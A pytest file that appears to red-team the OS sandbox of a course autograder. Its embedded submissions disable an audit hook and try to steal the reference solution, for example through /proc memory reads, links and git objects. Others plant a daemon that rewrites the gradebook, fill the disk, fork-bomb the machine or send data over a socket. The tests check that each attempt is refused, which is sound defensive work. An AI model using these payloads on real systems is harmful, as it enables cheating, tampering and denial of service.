"""Red team: the operating-system boundary around a graded part (minilstm/classroom/sandbox/).

Each attack below is one submission of the lstm assignment in which ``cell_forward`` is replaced by
code that tries, with ordinary OS tools, to fetch the reference's ``cell_forward`` and run it (which
would earn the part's 5 points), to outlive its part and touch the grader's outputs afterwards, or
to swamp the machine. Every stealing attack first switches the audit hook off (one line: it lives
in the student's process), so what stops it is the kernel. All are graded in one run (two children
at a time, as a class would be), beside an honest submission that must keep its full marks.

Each attack can fail: ``MINILSTM_REDTEAM_NO_SANDBOX=1 python -m pytest tests/test_grade_sandbox.py``
grades the same submissions with every layer switched off (the child as before the sandbox: its own
process group, an address-space cap, nothing else) and the tests of the attacks that work without
the sandbox fail (lessons/INSTRUCTORS.md, "Trust model", lists them).
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import socket
import threading
import time
from pathlib import Path

import pytest

import minilstm
from minilstm.classroom import assign, grade, sandbox
from minilstm.classroom.assignments import ASSIGNMENTS
from minilstm.classroom.gradebook import write_gradebook
from minilstm.classroom.sandbox import child

REF = Path(minilstm.__file__).resolve().parent     # the reference package this grader runs
CHECKOUT = REF.parent
PART_TIMEOUT = 20
NO_SANDBOX = os.environ.get("MINILSTM_REDTEAM_NO_SANDBOX", "") not in ("", "0")
LSTM_PARTS = [f"lstm:{p.name}" for p in ASSIGNMENTS["lstm"].parts]
ONLY_CELL_FORWARD = {"assignments": ["lstm"], "solved": [k for k in LSTM_PARTS if k != "lstm:cell_forward"]}

FOUND = sandbox.layers()
NEEDS = {  # which layer each kind of attack needs; a test skips (with the reason) where it is missing here
    "filesystem": FOUND["filesystem"], "pid_namespace": FOUND["pid_namespace"],
    "process_cap": FOUND["process_cap"], "rlimits": FOUND["rlimits"], "network": FOUND["network"],
    "signals": FOUND["signals"], "private_folder": FOUND["private_folder"],
}


def needs(*names):
    missing = [n for n in names if not NEEDS[n]["active"]]
    return pytest.mark.skipif(bool(missing) and not NO_SANDBOX,
                              reason="; ".join(f"no {n} layer here: {NEEDS[n]['detail']}" for n in missing))


# --------------------------------------------------------------------------- the attacks' shared helpers

PRELUDE = r'''

# ---- red team (tests/test_grade_sandbox.py) ----
import os as _os, sys as _sys
_REF = "@REF@"
_GRADER_PID = @GRADER_PID@


def _disarm():
    """Switch the grader's audit hook off: it is a function in __main__ of this very process."""
    guard = getattr(_sys.modules.get("__main__"), "_guard", None)
    if guard is not None:
        guard.__code__ = (lambda *a, **k: None).__code__


def _adopt(text):
    """The last working ``def cell_forward`` in ``text`` (the reference's, appended after a stub), defined."""
    import numpy
    import re
    starts = [m.start() for m in re.finditer(r"def cell_forward\(", text)]
    for start in reversed(starts):
        lines = text[start:start + 20000].split("\n")
        end = next((i for i in range(1, len(lines)) if lines[i][:1] not in ("", " ", "\t", "#")), len(lines))
        space = dict(globals())
        try:
            exec(compile("\n".join(lines[:end]), "<stolen>", "exec"), space)
            fn = space["cell_forward"]
            out = [numpy.zeros((1, 1)) for _ in range(3)]
            fn(numpy.full((1, 4), 0.5), numpy.zeros((1, 1)), *out, numpy)
        except Exception:
            continue  # a stub (it raises), or not code: try the one before
        return fn
    raise LookupError(f"no working cell_forward in {len(text)} characters read")


_STOLEN = []


def cell_forward(gates, prev_c, next_c, tanh_c, next_h, xp):
    if not _STOLEN:  # once per process: the first case steals (or fails), the others reuse it
        _disarm()
        try:
            _STOLEN.append(_adopt(_steal()))
        except Exception as exc:
            _STOLEN.append(RuntimeError(f"STOPPED {type(exc).__name__}: {exc}"[:300]))
    if isinstance(_STOLEN[0], Exception):
        raise _STOLEN[0]
    return _STOLEN[0](gates, prev_c, next_c, tanh_c, next_h, xp)
'''

STEAL = {}  # id: the body of _steal() -> the reference's ops/lstm.py text (or whatever holds its cell_forward)

STEAL["symlink"] = '''
def _steal():
    link = _os.path.join(_os.environ["HOME"], "ref")
    _os.symlink(_REF, link)
    return open(_os.path.join(link, "ops", "lstm.py")).read()
'''

STEAL["subprocess-cat"] = '''
def _steal():
    import subprocess
    run = subprocess.run(["cat", _os.path.join(_REF, "ops", "lstm.py")], capture_output=True)
    if run.returncode:
        raise OSError(run.stderr.decode()[-150:])
    return run.stdout.decode()
'''

STEAL["find-then-read"] = '''
def _steal():
    """No hint: look for the reference in the job file, the editable finder, and by walking the disk."""
    import glob, json, re
    places = []
    for name in _os.listdir(_sys.argv[1]):  # the job folder the bootstrap was given
        if name.endswith(".json"):
            text = open(_os.path.join(_sys.argv[1], name)).read()
            places += [p for p in re.findall(r'"(/[^"]+)"', text)]
    import numpy
    site = _os.path.dirname(_os.path.dirname(_os.path.realpath(numpy.__file__)))
    for finder in glob.glob(_os.path.join(site, "__editable__*finder.py")):
        places += re.findall(r"'(/[^']*minilstm)'", open(finder).read())
    deadline = __import__("time").monotonic() + 8
    for top in ("/work", "/home", "/srv", "/opt", "/root", "/usr/local", site):
        for root, dirs, files in _os.walk(top):
            if root.count("/") > 4 or __import__("time").monotonic() > deadline:
                dirs[:] = []
            if root.endswith("/minilstm") and "ops" in dirs:
                places.append(root)
    mine = _os.path.dirname(_os.path.dirname(_os.path.realpath(__file__)))  # this submission's own copy
    for p in places:
        for q in (p, _os.path.join(p, "minilstm")):
            if _os.path.realpath(q) == mine:
                continue
            try:
                text = open(_os.path.join(q, "ops", "lstm.py")).read()
            except OSError:
                continue
            if "def cell_forward(" in text and "NotImplementedError" not in text.split("def cell_forward(")[-1][:3000]:
                return text
    raise FileNotFoundError(f"nothing readable among {len(places)} places")
'''

STEAL["dir-fd"] = '''
def _steal():
    folder = _os.open(_os.path.join(_REF, "ops"), _os.O_RDONLY | _os.O_DIRECTORY | getattr(_os, "O_PATH", 0))
    fd = _os.open("lstm.py", _os.O_RDONLY, dir_fd=folder)
    return _os.read(fd, 10**6).decode()
'''

STEAL["hard-link"] = '''
def _steal():
    link = _os.path.join(_os.environ["HOME"], "lstm_copy.py")
    _os.link(_os.path.join(_REF, "ops", "lstm.py"), link)
    return open(link).read()
'''

_ANCESTORS = '''
def _ancestors():
    """This process's parents, up to the top, read from /proc (as far as it can be read)."""
    out, pid = [], _os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(re.search(r"PPid:\\s*(\\d+)", f.read()).group(1))
        except OSError:
            break
        if pid > 0:
            out.append(pid)
    return out
'''

STEAL["proc-mem"] = '''
import re
''' + _ANCESTORS + '''
def _steal():
    """The grader holds the reference's source in memory: read it through /proc/PID/mem."""
    found, last = [], None
    for pid in [_os.getppid()] + _ancestors() + [_GRADER_PID]:
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                for line in maps:
                    span, perms = line.split()[:2]
                    lo, hi = (int(x, 16) for x in span.split("-"))
                    if perms[0] != "r" or "[v" in line:
                        continue
                    for at in range(lo, hi, 2**24):
                        try:
                            mem.seek(at)
                            data = mem.read(min(2**24 + 20000, hi - at))
                        except OSError:
                            break
                        i = data.find(b"def cell_forward(")
                        while i >= 0:
                            found.append(data[i:i + 20000].split(b"\\0")[0].decode("latin-1"))
                            i = data.find(b"def cell_forward(", i + 1)
        except OSError as exc:
            last = exc
    if not found and last is not None:
        raise last
    return "\\n\\n".join(found)
'''

STEAL["proc-cwd"] = '''
import re
''' + _ANCESTORS + '''
def _steal():
    """The grader's working folder (the checkout, when pytest runs there) and root, seen through /proc."""
    for pid in [_os.getppid()] + _ancestors() + [_GRADER_PID]:
        for path in (f"/proc/{pid}/cwd/minilstm/ops/lstm.py", f"/proc/self/../{pid}/root{_REF}/ops/lstm.py"):
            try:
                return open(path).read()
            except OSError as exc:
                last = exc
    raise last
'''

STEAL["git-objects"] = '''
def _steal():
    """The checkout's .git holds every version of the reference (packed): let git unpack it."""
    import subprocess
    checkout = _os.path.dirname(_REF)
    run = subprocess.run(["git", "-C", checkout, "show", "HEAD:minilstm/ops/lstm.py"], capture_output=True,
                         env={"PATH": "/usr/bin:/bin", "HOME": _os.environ["HOME"],
                              "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CEILING_DIRECTORIES": ""})
    if run.returncode:
        raise OSError(run.stderr.decode()[-200:])
    return run.stdout.decode()
'''

STEAL["another-jobs-scratch"] = '''
def _steal():
    """Another part's scratch copy may hold this part's reference (appended for the part that calls it): look
    in the other job folders, graded at the same time, for a while."""
    import glob, time
    scratch = _os.path.dirname(_os.path.dirname(_os.path.dirname(_os.getcwd())))  # .../jobN/box/home
    deadline, seen = time.monotonic() + 6, {}
    while time.monotonic() < deadline:
        for path in glob.glob(_os.path.join(scratch, "*", "*", "minilstm", "ops", "lstm.py")):
            if path in seen:
                continue
            try:
                seen[path] = open(path).read()
                return _adopt(seen[path]) and seen[path]
            except Exception:
                pass
        time.sleep(0.02)
    raise FileNotFoundError(f"no other job's copy with a working cell_forward under {scratch} ({len(seen)} read)")
'''

STEAL["disarm-then-open"] = '''
def _steal():
    return open(_os.path.join(_REF, "ops", "lstm.py")).read()
'''

# --------------------------------------------------------------------------- attacks on the grader's machine

DAEMON = r'''

def cell_forward(gates, prev_c, next_c, tanh_c, next_h, xp):
    """A daemon that outlives the part, waits for the grader's gradebook, then rewrites it."""
    import ctypes, os, sys, time
    guard = getattr(sys.modules.get("__main__"), "_guard", None)
    if guard is not None:
        guard.__code__ = (lambda *a, **k: None).__code__
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                ctypes.CDLL(None).prctl(15, b"redteam-daemon", 0, 0, 0)  # its name, for the test to look for
            except Exception:
                pass
            book = os.path.join(@WATCH@, "gradebook.csv")
            for _ in range(600):
                time.sleep(0.2)
                try:
                    if os.path.exists(book):
                        time.sleep(0.5)
                        with open(book, "w") as f:
                            f.write("student,score\nme,100\n")
                        open(os.path.join(@WATCH@, "pwned.txt"), "w").close()
                        break
                except OSError:
                    pass
        os._exit(0)
    raise RuntimeError("DAEMON started")
'''

BIG_FILE = r'''

def cell_forward(gates, prev_c, next_c, tanh_c, next_h, xp):
    """1 GiB in the part's own folder (once: the probe calls this once per case)."""
    import os
    if os.path.exists(os.path.join(os.environ["TMPDIR"], "big")):
        raise RuntimeError("WROTE 0 bytes: done before")
    block, n = b"\0" * 2**20, 0
    try:
        with open(os.path.join(os.environ["TMPDIR"], "big"), "wb") as f:
            for _ in range(1024):
                f.write(block)
                f.flush()
                n += len(block)
    except OSError as exc:
        raise RuntimeError(f"WROTE {n} bytes, then {type(exc).__name__}: {exc}") from None
    raise RuntimeError(f"WROTE {n} bytes")
'''

MANY_FILES = r'''

def cell_forward(gates, prev_c, next_c, tanh_c, next_h, xp):
    """1 GiB again, in files of 64 MiB (each under the file size limit); once, though called once per case."""
    import os
    if os.path.exists(os.path.join(os.environ["TMPDIR"], "done")):
        raise RuntimeError("WROTE 0 bytes: done before")
    open(os.path.join(os.environ["TMPDIR"], "done"), "w").close()
    block, n = b"\0" * 2**20, 0
    try:
        for i in range(16):
            with open(os.path.join(os.environ["TMPDIR"], f"part{i}"), "wb") as f:
                for _ in range(63):
                    f.write(block)
                    f.flush()
                    n += len(block)
    except OSError as exc:
        error = f"{type(exc).__name__}: {exc}"
    else:
        error = "no error"
    for i in range(16):  # room again, for the results to say how far it got
        try:
            os.remove(os.path.join(os.environ["TMPDIR"], f"part{i}"))
        except OSError:
            pass
    raise RuntimeError(f"WROTE {n} bytes, then {error}")
'''

FORK_BOMB = r'''

def cell_forward(gates, prev_c, next_c, tanh_c, next_h, xp):
    """1,000 processes that sleep."""
    import ctypes, os, sys, time
    guard = getattr(sys.modules.get("__main__"), "_guard", None)
    if guard is not None:
        guard.__code__ = (lambda *a, **k: None).__code__
    if _BOMBED:  # the probe calls this once per case: one bomb is enough
        raise RuntimeError(_BOMBED[0])
    prctl = ctypes.CDLL(None).prctl
    n = 0
    for _ in range(1000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            prctl(15, b"redteam-bomb", 0, 0, 0)  # its name, for the test to look for
            time.sleep(120)
            os._exit(0)
        n += 1
    _BOMBED.append(f"FORKED {n} processes")
    raise RuntimeError(_BOMBED[0])


_BOMBED = []
'''

SIGNAL_THE_GRADER = r'''

def cell_forward(gates, prev_c, next_c, tanh_c, next_h, xp):
    """Is the grader within reach of a signal? (signal 0: only asks)"""
    import os
    try:
        os.kill(@GRADER_PID@, 0)
    except OSError as exc:
        raise RuntimeError(f"SIGNAL refused: {type(exc).__name__}") from None
    raise RuntimeError("SIGNAL reached the grader")
'''

NETWORK = r'''

def cell_forward(gates, prev_c, next_c, tanh_c, next_h, xp):
    """Send something to a server on this machine."""
    import os, socket, sys
    guard = getattr(sys.modules.get("__main__"), "_guard", None)
    if guard is not None:
        guard.__code__ = (lambda *a, **k: None).__code__
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as s:
            s.sendall(b"stolen")
    except OSError as exc:
        raise RuntimeError(f"NETWORK refused: {type(exc).__name__}: {exc}") from None
    raise RuntimeError("NETWORK reached the server")
'''


def _write_attack(folder: Path, code: str) -> None:
    lstm = folder / "minilstm" / "ops" / "lstm.py"
    lstm.write_text(lstm.read_text() + code)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    if sandbox.refusal(FOUND) and not NO_SANDBOX:  # no filesystem layer: the grader refuses student code here
        pytest.skip(sandbox.refusal(FOUND))
    root = tmp_path_factory.mktemp("redteam")
    watch = root / "grader-outputs"
    watch.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.2)
    connections = []
    done = threading.Event()

    def serve():
        while not done.is_set():
            try:
                conn, _ = listener.accept()
                connections.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    server = threading.Thread(target=serve, daemon=True)
    server.start()
    subs = {}
    order = ["another-jobs-scratch", "neighbour"] + [k for k in STEAL if k != "another-jobs-scratch"] + \
        ["daemon", "big-file", "many-files", "fork-bomb", "signal-the-grader", "network", "honest"]
    fresh = root / "fresh-handout"
    assign.write_student_version(fresh, ["lstm"])
    for sid in order:
        folder = root / sid
        if sid == "honest":
            assign.write_student_version(folder, ["lstm"], solved=LSTM_PARTS)
        else:
            shutil.copytree(fresh, folder)
        if sid in STEAL:
            _write_attack(folder, PRELUDE.replace("@REF@", str(REF)).replace("@GRADER_PID@", str(os.getpid()))
                          + STEAL[sid])
        elif sid == "daemon":
            _write_attack(folder, DAEMON.replace("@WATCH@", repr(str(watch))))
        elif sid == "big-file":
            _write_attack(folder, BIG_FILE)
        elif sid == "many-files":
            _write_attack(folder, MANY_FILES)
        elif sid == "fork-bomb":
            _write_attack(folder, FORK_BOMB)
        elif sid == "signal-the-grader":
            _write_attack(folder, SIGNAL_THE_GRADER.replace("@GRADER_PID@", str(os.getpid())))
        elif sid == "network":
            _write_attack(folder, NETWORK.replace("@PORT@", str(listener.getsockname()[1])))
        subs[sid] = folder
    plans = {folder: ONLY_CELL_FORWARD for sid, folder in subs.items()}
    plans[subs["neighbour"]] = {"assignments": ["lstm"], "solved": ["lstm:cell_forward"]}  # its other parts
    plans[subs["honest"]] = {"assignments": ["lstm"], "solved": []}
    with pytest.MonkeyPatch.context() as mp:
        if NO_SANDBOX:  # every layer off: the child as before the sandbox (process group, address space)
            off = sandbox._summarize({})
            mp.setattr(sandbox, "layers", lambda refresh=False: off)
            mp.setattr(sandbox, "unsafe_allowed", lambda: True)
            write_spec = sandbox.write_spec
            mp.setattr(sandbox, "write_spec", lambda *args, limits, **kw: write_spec(
                *args, **{**kw, "limits": {"memory_bytes": limits["memory_bytes"]}, "found": off}))
        started = time.monotonic()
        reports = grade.grade_many(list(subs.values()), jobs=2, timeout=PART_TIMEOUT, memory_mb=1024, plans=plans)
        seconds = time.monotonic() - started
    by_id = dict(zip(subs, reports))
    # the grader's outputs, written once the grading is over; then time for a daemon to strike
    write_gradebook(reports, watch)
    before = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in watch.iterdir() if p.is_file()}
    time.sleep(3)
    after = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in watch.iterdir() if p.is_file()}
    done.set()
    server.join(2)
    listener.close()
    return {"reports": by_id, "seconds": seconds, "watch": watch, "before": before, "after": after,
            "connections": connections}


def part(report, key="lstm:cell_forward"):
    return next(p for a in report["assignments"] for p in a["parts"] if p["key"] == key)


def said(report, key="lstm:cell_forward") -> str:
    p = part(report, key)
    return "\n".join(p["messages"] + [p["error"] or ""])


def _processes_named(name: str) -> list:
    out = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and (proc / "comm").read_text().strip() == name:
                out.append(int(proc.name))
        except OSError:
            pass
    return out


@needs("filesystem")
@pytest.mark.parametrize("sid", list(STEAL))
def test_an_attack_on_the_reference_earns_nothing(graded, sid):
    report = graded["reports"][sid]
    assert part(report)["score"] == 0, (sid, said(report))
    assert "STOPPED" in said(report), said(report)  # the attack ran, and what it tried was refused


def test_an_honest_submission_keeps_every_point(graded):
    report = graded["reports"]["honest"]
    assert report["score"] == report["max_score"] == ASSIGNMENTS["lstm"].max_points, said(report)


@needs("pid_namespace")
def test_a_setsid_daemon_dies_with_its_part_and_the_outputs_stay_untouched(graded):
    assert "DAEMON started" in said(graded["reports"]["daemon"])
    assert graded["after"] == graded["before"], "the grader's outputs changed after grading"
    assert not (graded["watch"] / "pwned.txt").exists()
    assert not _processes_named("redteam-daemon"), "the daemon survived its part"


@needs("rlimits")
def test_a_1_gib_file_is_stopped_by_the_file_size_limit(graded):
    text = said(graded["reports"]["big-file"])
    wrote = int(re.search(r"WROTE (\d+) bytes", text).group(1))
    assert wrote <= child.MAX_OUTPUT_BYTES, text
    assert "File too large" in text or "EFBIG" in text or "27" in text, text


@needs("private_folder")
def test_many_files_are_stopped_by_the_private_folders_size(graded):
    text = said(graded["reports"]["many-files"])
    wrote = int(re.search(r"WROTE (\d+) bytes", text).group(1))
    assert wrote <= 3 * child.MAX_OUTPUT_BYTES, text  # the tmpfs: twice the outputs' limit and the inputs
    assert "No space left on device" in text, text


@needs("pid_namespace", "process_cap")
def test_a_fork_bomb_is_capped_and_grading_ends_in_bounded_time(graded):
    text = said(graded["reports"]["fork-bomb"])
    forked = int(re.search(r"FORKED (\d+) processes", text).group(1))
    assert forked < 1000, text
    assert forked <= sandbox.PID_MAX_MIN, text
    assert graded["seconds"] < 3 * PART_TIMEOUT, graded["seconds"]  # nothing waited for its time limit
    assert not _processes_named("redteam-bomb"), "processes of the bomb survived their part"


@needs("signals")
def test_the_grader_is_out_of_reach_of_signals(graded):
    text = said(graded["reports"]["signal-the-grader"])
    assert "SIGNAL refused" in text, text


@needs("network")
def test_no_network(graded):
    text = said(graded["reports"]["network"])
    assert "NETWORK refused" in text and not graded["connections"], (text, graded["connections"])


def test_the_child_is_told_nothing_of_the_reference(tmp_path):
    """What a child gets (its spec's rules, its job file) names no file of the reference, the checkout or
    another part: only Python, NumPy, the system libraries and its own folders."""
    rules = child.World(tmp_path).rules
    reads = [p for p, _ in rules]
    assert not [p for p in reads if p == str(REF) or p.startswith(str(REF) + os.sep)]
    assert not [p for p in reads if (p == str(CHECKOUT) or p.startswith(str(CHECKOUT) + os.sep))
                and "numpy" not in Path(p).name]
    for folder in sandbox.site_folders():
        assert folder not in reads


@pytest.mark.skipif(not FOUND["filesystem"]["active"], reason=f"no filesystem layer: {FOUND['filesystem']['detail']}")
def test_layers_are_reported():
    text = sandbox.describe()
    for name in ("filesystem", "pid_namespace", "process_cap", "rlimits"):
        assert name in text
    assert sandbox.refusal() is None


def test_no_filesystem_layer_means_no_grading_unless_the_instructor_opts_in(tmp_path, monkeypatch):
    folder = tmp_path / "s"
    assign.write_student_version(folder, ["lstm"], solved=LSTM_PARTS)
    off = sandbox._summarize({})
    monkeypatch.setattr(sandbox, "layers", lambda refresh=False: off)
    monkeypatch.delenv("MINILSTM_UNSAFE_NO_SANDBOX", raising=False)
    report = grade.grade(folder, solved=[k for k in LSTM_PARTS if k != "lstm:cell_forward"], assignments=["lstm"])
    assert report["score"] == 0 and "refused: this machine has no filesystem sandbox" in report["errors"][0], report
    monkeypatch.setenv("MINILSTM_UNSAFE_NO_SANDBOX", "1")  # the instructor's explicit opt-in (trusted code only)
    report = grade.grade(folder, solved=[k for k in LSTM_PARTS if k != "lstm:cell_forward"], assignments=["lstm"])
    assert report["score"] == report["max_score"] == 5, report


def test_a_submission_that_is_a_link_to_the_installed_package_earns_nothing(tmp_path):
    """The simplest theft: hand in ``minilstm`` as a symbolic link to the reference (refused at copying)."""
    folder = tmp_path / "linked"
    folder.mkdir()
    (folder / "minilstm").symlink_to(REF)
    report = grade.grade(folder, assignments=["lstm"], solved=ONLY_CELL_FORWARD["solved"])
    assert report["score"] == 0, report
